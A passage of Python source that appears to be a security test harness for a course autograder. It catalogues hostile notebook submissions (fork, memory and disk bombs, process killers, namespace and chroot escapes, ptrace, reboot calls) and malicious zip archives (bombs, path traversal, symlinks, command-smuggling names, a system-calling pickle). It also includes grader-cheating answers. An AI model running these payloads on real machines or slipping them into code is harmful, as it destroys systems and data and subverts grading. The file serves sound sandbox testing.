        "descriptors-flood",
        "file descriptors are opened until there are none",
        code="""
import os
import resource

resource.setrlimit(resource.RLIMIT_NOFILE, (512, 512))
kept = []
try:
    while True:
        kept.append(os.open("/dev/null", os.O_RDONLY))
except OSError:
    pass
""",
        spoils=True,
    ),
    Attack(
        "stays-behind",
        "a process of a session of its own outlives the kernel",
        code=f"{STAY}\n\nif os.fork() == 0:\n    stay()",
        bare="harms",
    ),
    Attack(
        "stays-and-answers",
        "a process stays behind and kills whatever comes next",
        code=f"""{STAY}

if os.fork() == 0:
    known = set(os.listdir("/proc"))
    ctypes.CDLL(None).prctl(15, b"{PROCESS}", 0, 0, 0)
    os.setsid()
    while True:
        time.sleep(0.1)
        for number in set(os.listdir("/proc")) - known:
            if number.isdecimal():
                try:
                    os.kill(int(number), 9)
                except OSError:
                    pass
""",
        bare="harms",
    ),
    Attack(
        "kills-all",
        "every process that can be seen is killed",
        code="import os\ntry:\n    os.kill(-1, 9)\nexcept OSError:\n    pass",
        bare="harms",
        spoils=True,
    ),
    Attack(
        "kills-parents",
        "the parent process and the process group are killed",
        code="""
import os

for number in (os.getppid(), 1, 2, 3):
    try:
        os.kill(number, 9)
    except OSError:
        pass
os.killpg(0, 15)
""",
        bare="harms",
        spoils=True,
    ),
    Attack(
        "stops-others",
        "every other process is stopped",
        code="""
import os
import signal

for number in processes():
    try:
        os.kill(number, signal.SIGSTOP)
    except OSError:
        pass
""",
        bare="harms",
        spoils=True,
    ),
    Attack("fork-bomb", "a fork bomb", code="import os\nwhile True:\n    os.fork()", bare="harms", spoils=True),
    Attack(
        "thread-bomb",
        "threads are started until there are no more",
        code="""
import threading
import time

try:
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
except RuntimeError:
    pass
""",
        bare="harms",
        spoils=True,
    ),
    Attack(
        "memory-bomb",
        "memory is taken until there is no more",
        code="""
taken = []
try:
    while True:
        taken.append(bytearray(b"x" * (64 << 20)))
except MemoryError:
    pass
""",
        bare="harms",
        spoils=True,
    ),
    Attack(
        "memory-bomb-of-many",
        "thirty processes take 600 MB each",
        code="""
import os
import time

for _ in range(30):
    if os.fork() == 0:
        taken = bytearray(b"x" * (600 << 20))
        time.sleep(600)
""",
        bare="harms",
        spoils=True,
    ),
    Attack(
        "memory-bomb-of-files",
        "memory is taken by files without names and by shared memory",
        code="""
import os

kept = []
try:
    for number in range(10_000):
        kept.append(os.memfd_create(f"x{number}"))
        for _ in range(16):
            os.write(kept[-1], b"x" * (1 << 20))
except (OSError, MemoryError):
    pass
""",
        bare="harms",
        spoils=True,
    ),
    Attack(
        "disk-flood",
        "every folder that can be written is filled",
        code=f"""
import os
import tempfile

for folder in (".", "..", tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~")):
    try:
        for number in range(100_000):
            with open(os.path.join(folder, f"{TRACE}-flood-{{number}}"), "wb") as file:
                for _ in range(64):
                    file.write(b"x" * (1 << 20))
    except OSError:
        pass
""",
        bare="harms",
        spoils=True,
    ),
    Attack(
        "inode-flood",
        "empty files are made until there can be no more",
        code=f"""
import tempfile

try:
    for number in range(10_000_000):
        open(f"{{tempfile.gettempdir()}}/{TRACE}-{{number}}", "w").close()
except OSError:
    pass
""",
        bare="harms",
        spoils=True,
    ),
    Attack(
        "output-flood",
        "a gigabyte is printed",
        code='for _ in range(1000):\n    print("x" * 1_000_000)',
        bare="harms",
        spoils=True,
    ),
    Attack(
        "output-flood-of-many",
        "a million small outputs are shown",
        code="""
from IPython.display import display

for number in range(1_000_000):
    display(number)
""",
        bare="harms",
        spoils=True,
    ),
    Attack(
        "output-flood-late",
        "200 MB are shown in the test cells",
        answer=DURING,
        code='def attack():\n    for _ in range(200):\n        print("x" * 1_000_000)',
        bare="harms",
        spoils=True,
    ),
    Attack(
        "root",
        "the process becomes root",
        code="""
import os

for become in (os.setuid, os.seteuid):
    try:
        become(0)
    except OSError:
        pass
if os.geteuid() == 0:
    won("root")
""",
        bare="wins",
    ),
    Attack(
        "name-spaces",
        "new name spaces are made, to mount and to be root in them",
        code="""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000) == 0:
    won("a user name space")
if libc.unshare(0x00020000) == 0 or libc.mount(b"none", b"/", b"tmpfs", 32 | 1, None) == 0:
    won("a mount name space")
libc.syscall.restype = ctypes.c_long
numbers = {"x86_64": (56, 435), "aarch64": (220, 435)}.get(os.uname().machine, ())
arguments = (ctypes.c_ulong * 11)(0x10000000, 0, 0, 0, 17)
for number in numbers:  # clone and clone3 with the flag of a user name space
    first = ctypes.byref(arguments) if number == 435 else ctypes.c_ulong(0x10000000 | 17)
    child = libc.syscall(number, first, ctypes.c_ulong(88 if number == 435 else 0), None, None, None)
    if child == 0:
        os._exit(0)
    if child > 0:
        won("a child in a user name space")
if (child := os.fork()) == 0:
    os._exit(libc.unshare(0x10000000) == 0)
if os.waitpid(child, 0)[1]:
    won("a child that made a user name space")
try:
    with open("/proc/sys/user/max_user_namespaces", "w") as file:
        file.write("1000")
    won("the limit of name spaces")
except OSError:
    pass
""",
        bare="harms",
    ),
    Attack(
        "remounted",
        "the read-only system is mounted anew or taken away",
        code="""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for place in (b"/", b"/usr", b"/proc", b"/dev", b"/run", b"/run/kernel", b"/run/kernels", b"/tmp", b"/home"):
    if libc.mount(None, place, None, 32 | 4096, None) == 0 or libc.umount2(place, 2) == 0:
        won(place)
""",
        bare="harms",
    ),
    Attack(
        "root-folder-changed",
        "the root folder is left by chroot, pivot_root and /proc",
        code="""
import os

try:
    os.makedirs("jail", exist_ok=True)
    os.chroot("jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    won("chroot")
except OSError:
    pass
for number in ("self", 1, *processes()):
    for name in ("root", "cwd"):
        try:
            if {"solutions", "gradebook.db"} & set(os.listdir(f"/proc/{number}/{name}/")):
                won(number)
        except OSError:
            pass
""",
        bare="harms",
    ),
    Attack(
        "traces-others",
        "other processes are traced",
        code="""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for number in processes():
    if libc.ptrace(0x4206, number, 0, 0) == 0:
        won(number)
""",
        bare="harms",
    ),
    Attack(
        "limits-raised",
        "the limits of resources are raised",
        code="""
import os
import resource

for what in (resource.RLIMIT_DATA, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
    for number in (0, *processes()):
        try:
            resource.prlimit(number, what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            won("no limits")
        except (OSError, ValueError):
            pass
try:
    os.nice(-10)
    won("a priority")
except OSError:
    pass
""",
        bare="harms",
    ),
    Attack(
        "devices",
        "devices and the settings of the system are opened",
        code="""
import glob
import os

for path in ["/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/net/tun", *glob.glob("/dev/[sv]d[a-z]*")]:
    try:
        os.close(os.open(path, os.O_RDWR))
        won(path)
    except OSError:
        pass
for path in ("kernel/core_pattern", "kernel/sysrq", "vm/overcommit_memory", "fs/binfmt_misc/register"):
    try:
        os.close(os.open(f"/proc/sys/{path}", os.O_WRONLY))
        won(path)
    except OSError:
        pass
for path in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True):
    try:
        os.close(os.open(path, os.O_WRONLY))
        won(path)
    except OSError:
        pass
""",
        bare="wins",
    ),
    Attack(
        "system-calls",
        "the machine is restarted, its name, clock and keys are changed",
        code="""
import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
if libc.reboot(0xCAFE) == 0 or libc.sethostname(b"mine", 4) == 0 or libc.swapoff(b"/none") == 0:
    won("the machine")
try:
    time.clock_settime(time.CLOCK_REALTIME, time.time())
    won("the clock")
except OSError:
    pass
""",
        bare="harms",
    ),
]

# What the problem forbids

FORBIDDEN = [
    Attack(
        "built-loaded",
        "the course's own built code is loaded from its file under another name",
        0,
        code="""
import importlib.util
import pathlib

import rnn2rag

path = next(pathlib.Path(rnn2rag.__file__).parent.glob("b*t/recurrent_networks.py"))
spec = importlib.util.spec_from_file_location("mine", path)
mine = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mine)
""",
        answer="""
def leaky_states(inputs, lengths, weight_input, weight_hidden, bias, leak):
    cell = mine.RecurrentCell(inputs.shape[-1], len(bias))
    parameters = {"weight_ih": weight_input, "weight_hh": weight_hidden, "bias": bias}
    state, states = inputs.new_zeros(inputs.shape[0], len(bias)), []
    for t in range(inputs.shape[1]):
        new = torch.func.functional_call(cell, parameters, (inputs[:, t], state))
        state = torch.where((t < lengths)[:, None], (1 - leak) * state + leak * new, state)
        states.append(state)
    return torch.stack(states, dim=1)
""",
        bare="wins",
    ),
    Attack(
        "library-in-a-thread",
        "the library's cell is called in a thread",
        0,
        answer="""
from concurrent.futures import ThreadPoolExecutor


def leaky_states(inputs, lengths, weight_input, weight_hidden, bias, leak):
    cell = torch.nn.RNNCell(inputs.shape[-1], len(bias), bias=True)
    parameters = {"weight_ih": weight_input, "weight_hh": weight_hidden, "bias_ih": bias, "bias_hh": 0 * bias}
    state, states = inputs.new_zeros(inputs.shape[0], len(bias)), []
    with ThreadPoolExecutor(1) as pool:
        for t in range(inputs.shape[1]):
            new = pool.submit(torch.func.functional_call, cell, parameters, (inputs[:, t], state)).result()
            state = torch.where((t < lengths)[:, None], (1 - leak) * state + leak * new, state)
            states.append(state)
    return torch.stack(states, dim=1)
""",
    ),
]

# What leaves something comes first, so that what follows may find it.
ATTACKS = sorted(
    [*POINTS, *FORGED, *BORDER, *LEAKS, *CHANGED, *HARMS, *FORBIDDEN, *SEARCHES],
    key=lambda attack: not attack.name.startswith(("leaves", "stays")),
)


# Archives, which end at the intake


def zipped(files):
    """A zip of files, as a function that writes it; a value is its bytes, or a function of the archive and the name."""

    def make(path, nb):
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in files.items():
                archive.writestr(zipfile.ZipInfo(name), data_of(nb) if data is None else data)

    return make


def bomb(path, nb):
    """2 GB in 2 MB."""
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open(f"eve/{NAME}", "w", force_zip64=True) as member,
    ):
        for _ in range(128):
            member.write(b" " * (16 << 20))


def lying_bomb(path, nb):
    """A gigabyte whose header says that it is small."""
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open(f"eve/{NAME}", "w", force_zip64=True) as member,
    ):
        for _ in range(64):
            member.write(b" " * (16 << 20))
    data = path.read_bytes()
    path.write_bytes(data.replace((64 * (16 << 20)).to_bytes(4, "little"), (1000).to_bytes(4, "little")))


def link(path, nb):
    """A symbolic link in a zip, then a file under it."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, target in ((f"eve/{NAME}", "/etc/passwd"), ("mallory", "/tmp")):
            info = zipfile.ZipInfo(name)
            info.create_system, info.external_attr = 3, 0o120777 << 16
            archive.writestr(info, target)
        archive.writestr(f"mallory/{TRACE}.ipynb", data_of(nb))


def many_members(path, nb):
    """100,000 members."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"ada/{NAME}", data_of(nb))
        for number in range(100_000):
            archive.writestr(f"x/{number}.txt", b"")


def truncated(path, nb):
    zipped({f"ada/{NAME}": None})(path, nb)
    path.write_bytes(path.read_bytes()[:-30])


@dataclass(frozen=True)
class Archive:
    """One archive that attacks the intake.

    make: writes it to a path, given the released notebook. taken: the students whose notebooks are fit to be graded.
    refused: a word of the reason for which the archive, or its only student, is refused.
    """

    name: str
    tries: str
    make: Callable[[Path, dict], None]
    taken: tuple[str, ...] = ()
    refused: str = ""


ARCHIVES = [
    Archive(
        "zip-paths",
        "names that lead out of the folder",
        zipped(
            {
                f"../../{TRACE}/{NAME}": None,
                f"/tmp/{TRACE}/{NAME}": None,
                f"a/../../../{TRACE}-2/{NAME}": None,
                f"..\\..\\{TRACE}.ipynb": None,
                f"C:\\{TRACE}.ipynb": None,
                f"ada/{NAME}": None,
            }
        ),
        ("ada",),
    ),
    Archive(
        "zip-names",
        "students whose names are options, commands or control characters",
        zipped(
            {
                f"--force/{NAME}": None,
                f"$(touch {TRACE})/{NAME}": None,
                f"a\n\x1b[2Jb/{NAME}": None,
                f"{'x' * 300}/{NAME}": None,
                f"../{NAME}": None,
                f"<script>/{NAME}": None,
                f"ada/{NAME}": None,
            }
        ),
        ("ada",),
    ),
    Archive("zip-bomb", "2 GB in 2 MB", bomb, refused="larger than"),
    Archive("zip-bomb-that-lies", "1 GB that says it is small", lying_bomb, refused="cannot be read"),
    Archive("zip-links", "links in place of files", link, ("mallory",), refused="is a link"),
    Archive("zip-of-many", "100,000 members", many_members, ("ada",)),
    Archive("zip-truncated", "an archive that is cut off", truncated, refused="no zip that can be read"),
    Archive("zip-in-zip", "an archive in an archive", zipped({"ada.zip": b"PK\x03\x04"}), refused="holds no"),
    Archive(
        "zip-of-pickles",
        "files that run when they are loaded",
        zipped({"ada/answer.pkl": b"cos\nsystem\n(S'exit'\ntR.", "ada/nbgrader_config.py": b"raise SystemExit"}),
        refused="holds no",
    ),
]


# From the table to notebooks


def source(attack: Attack) -> str:
    """The student's cell of an attack: the answer, the shared functions that it needs, and its code."""
    helpers = [part for call, part in HELPERS.items() if call in attack.code]
    return "\n\n".join(part.strip("\n") for part in (*helpers, attack.answer, attack.code) if part) + "\n"


def notebook(attack: Attack) -> dict:
    """The notebook of an attack as plain data, made from the released one."""
    nb = json.loads(RELEASED.read_text(encoding="utf8"))
    cell(nb, ANSWER)["source"] = source(attack)
    if attack.edit:
        attack.edit(nb)
    return nb


def text(nb: dict) -> str:
    """A notebook as the text of a file."""
    return json.dumps(nb, indent=1, ensure_ascii=True) + "\n"


def write_all() -> None:
    """Write the notebooks of attacks/, and delete those that the table does not have."""
    FOLDER.mkdir(exist_ok=True)
    for path in FOLDER.glob("*.ipynb"):
        path.unlink()
    for attack in ATTACKS:
        if attack.place is None:
            (FOLDER / f"{attack.name}.ipynb").write_text(text(notebook(attack)), encoding="utf8")


# A class of attackers and honest students, and who grades it


def students(attacks: Sequence[Attack]) -> dict[str, Attack | None]:
    """A class in the order in which it is graded: an honest student (None) at first and after every few attacks."""
    line: list[Attack | None] = [None]
    for number, attack in enumerate(attacks, 1):
        line += [attack, None] if attack.bare == "harms" or number % 4 == 0 else [attack]
    return {f"s{number:03d}": attack for number, attack in enumerate(line)}


def make_course(folder: Path) -> Path:
    """Make a course with the problem set, and beside it files of the user that no submission may touch."""
    tree = folder / "course"
    (tree / "chapters").mkdir(parents=True)
    for name in ("_toc.yml", "nbgrader_config.py"):
        shutil.copy(ROOT / name, tree / name)
    for part in ("solutions", "exercises"):
        shutil.copytree(COURSE / part / SET, tree / part / SET, ignore=shutil.ignore_patterns("__pycache__", ".*"))
    for place in (folder, folder / "home"):
        place.mkdir(exist_ok=True)
        (place / "canary.txt").write_text("The user's own.", encoding="utf8")
    return tree


def submit(tree: Path, klass: Mapping[str, Attack | None]) -> None:
    """Put what a class hands in under submitted/."""
    for student, attack in klass.items():
        own = attack or Attack("honest", "", answer=RIGHT, code=f"# the work of {student}")
        place = own.place or (lambda folder, nb: write(folder, data_of(nb)))
        place(tree / "submitted" / student / SET, notebook(own))


def grade(tree: Path, mode: str) -> list[Result]:
    """Grade what stands under submitted/, two at a time."""
    from rnn2rag.grading import coordinator

    return coordinator.grade(tree, SET, intake.collect(tree, SET, None), jobs=2, mode=mode)


def mode() -> str:
    """The sandbox that this machine has."""
    try:
        sandbox.check("bubblewrap")
    except UserError:
        return "none"
    return "bubblewrap"


def runnable() -> list[Attack]:
    """The attacks that may run here: without a sandbox only those that need none to fail."""
    return ATTACKS if mode() != "none" else [attack for attack in ATTACKS if attack.bare == "fails"]


@contextlib.contextmanager
def surroundings(folder: Path) -> Iterator[list[str]]:
    """The user's home in a folder, and services on this machine; gives the list of who called them."""
    calls: list[str] = []
    with contextlib.ExitStack() as stack:
        for family, address in ((socket.AF_INET, ("127.0.0.1", 0)), (socket.AF_UNIX, f"\0{TRACE}-{os.getpid()}")):
            service = stack.enter_context(socket.socket(family))
            service.bind(address)
            service.listen()
            threading.Thread(target=_answer, args=(service, calls), daemon=True).start()
        before = dict(os.environ)
        cache = str(catalog.cache_dir())
        os.environ.update({"RNN2RAG_CACHE": cache, "HOME": str(folder / "home"), "OMP_NUM_THREADS": "1"})
        try:
            yield calls
        finally:
            os.environ.clear()
            os.environ.update(before)


def _answer(service: socket.socket, calls: list[str]) -> None:
    with contextlib.suppress(OSError):
        while True:
            service.accept()[0].close()
            calls.append(str(service.getsockname()))


def processes() -> list[str]:
    """The processes that attacks left."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            found += [process.name] if (process / "comm").read_text().strip() == PROCESS else []
    return found


def leftovers() -> list[str]:
    """The files that attacks left where everybody may write."""
    folders = {tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", "/run"}
    return [str(path) for folder in folders for path in Path(folder).glob(f"{TRACE}*")]


def grade_by_stock(attack: Attack, course: Path) -> str:
    """Grade one attack in a copy of a course by `nbgrader autograde`; return the points, or how it ended."""
    mark = f"{TRACE}-{uuid.uuid4().hex}"
    with tempfile.TemporaryDirectory() as folder:
        tree = Path(folder, "course")
        shutil.copytree(course.parent, folder, dirs_exist_ok=True)
        submit(tree, {"s000": None, "s001": attack})
        environment = {**os.environ, "HOME": f"{folder}/home", "RNN2RAG_ATTACK": mark, "OMP_NUM_THREADS": "1"}
        command = [_nbgrader(), "autograde", SET, "--student=s001", f"--Execute.timeout={CELL_TIMEOUT:.0f}"]
        nothing = subprocess.DEVNULL
        process = subprocess.Popen(
            command, cwd=tree, env=environment, stdin=nothing, stdout=nothing, stderr=nothing, start_new_session=True
        )
        try:
            status = process.wait(90)
        except subprocess.TimeoutExpired:
            status = None
        for other in Path("/proc").glob("[0-9]*"):
            with contextlib.suppress(OSError):
                if mark.encode() in (other / "environ").read_bytes():
                    os.kill(int(other.name), signal.SIGKILL)
        process.wait()
        if status is None:
            return "never ends"
        try:
            with Gradebook(f"sqlite:///{tree / 'gradebook.db'}") as gradebook:
                points = gradebook.find_submission(SET, "s001").score
        except MissingEntry:
            return "aborts"
        except Exception as error:
            return f"gradebook broken ({type(error).__name__})"
        return f"{points:g}" if status == 0 else "aborts"


def _nbgrader() -> str:
    return str(Path(sys.executable).with_name("nbgrader"))


def stock_points(attacks: Sequence[Attack]) -> dict[str, str]:
    """What stock nbgrader gives to attacks, each graded alone; a word where it is not safe to try."""
    with tempfile.TemporaryDirectory() as folder:
        tree = make_course(Path(folder))
        (tree / "release.key").write_text("0" * 64, encoding="utf8")
        subprocess.run([_nbgrader(), "generate_assignment", SET, "--force"], cwd=tree, check=True, capture_output=True)
        safe = [attack for attack in attacks if attack.bare != "harms"]
        points = {attack.name: grade_by_stock(attack, tree) for attack in safe}
    for left in leftovers():
        Path(left).unlink(missing_ok=True)
    return points


def our_points(attacks: Sequence[Attack]) -> dict[str, str]:
    """What we give to attacks, graded together; a word where they are refused, or need a sandbox that is not here."""
    allowed = {attack.name for attack in runnable()}
    klass = students([attack for attack in attacks if attack.name in allowed])
    worker.CELL_TIMEOUT = CELL_TIMEOUT
    with tempfile.TemporaryDirectory() as folder, surroundings(Path(folder)):
        tree = make_course(Path(folder))
        submit(tree, klass)
        points = {
            result.student: "refused" if result.refused else f"{result.points:g}" for result in grade(tree, mode())
        }
    return {attack.name: points[student] for student, attack in klass.items() if attack}


def table(attacks: Sequence[Attack], stock: Mapping[str, str], ours: Mapping[str, str]) -> str:
    """Attacks with their points as a Markdown table."""
    lines = ["| attack | what it tries | stock | ours | deserved |", "|---|---|---|---|---|"]
    for attack in attacks:
        deserved = "refusal" if attack.refused else f"{attack.deserves}{' or less' if attack.spoils else ''}"
        points = f"{stock.get(attack.name, 'not tried')} | {ours.get(attack.name, 'not tried')}"
        lines.append(f"| {attack.name} | {attack.tries} | {points} | {deserved} |")
    return "\n".join(lines)


def main() -> None:
    """Write the notebooks, or grade and print the table."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--table", nargs="*", metavar="NAME", help="grade these attacks (all by default)")
    names = parser.parse_args().table
    if names is None:
        write_all()
    else:
        attacks = [attack for attack in ATTACKS if not names or attack.name in names]
        print(table(attacks, stock_points(attacks), our_points(attacks)))


if __name__ == "__main__":
    main()
